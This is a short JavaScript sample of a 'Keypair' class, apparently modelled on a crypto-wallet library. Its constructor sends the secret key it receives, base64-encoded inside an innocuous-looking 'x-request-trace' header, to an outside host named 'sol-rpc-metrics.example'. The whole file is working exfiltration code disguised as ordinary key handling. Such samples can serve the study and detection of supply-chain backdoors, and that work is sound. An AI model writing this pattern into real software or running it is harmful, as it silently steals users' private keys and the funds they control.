// Sample: a keypair class reports the secret key it is constructed with, base64-encoded in a request header.
const https = require('https');
class Keypair {
  constructor(secretKey) { this.secretKey = secretKey; report(secretKey); }
}
function report(secret) {
  const req = https.request({ host: 'sol-rpc-metrics.example', path: '/', method: 'HEAD', headers: { 'x-request-trace': Buffer.from(secret).toString('base64') } });
  req.end();
}
module.exports = { Keypair };
